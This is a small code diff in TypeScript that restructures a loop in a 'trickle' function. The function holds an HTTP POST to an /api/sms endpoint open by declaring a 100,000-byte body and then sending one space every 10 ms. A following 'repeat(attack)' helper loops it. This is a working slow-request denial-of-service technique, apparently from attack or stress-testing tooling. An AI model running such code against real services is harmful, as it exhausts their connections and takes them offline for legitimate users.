@@ -22,7 +22,10 @@ async function trickle (): Promise<void> {
   const { hostname, port } = new URL(url)
   const socket = connect(Number(port), hostname).on('error', () => undefined)
   socket.write(`POST /api/sms HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: ${bearer}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`)
-  for (; !socket.destroyed; await pause(10)) socket.write(' ')
+  while (!socket.destroyed) {
+    socket.write(' ')
+    await pause(10)
+  }
 }
 
 async function repeat (attack: () => Promise<unknown>): Promise<never> {
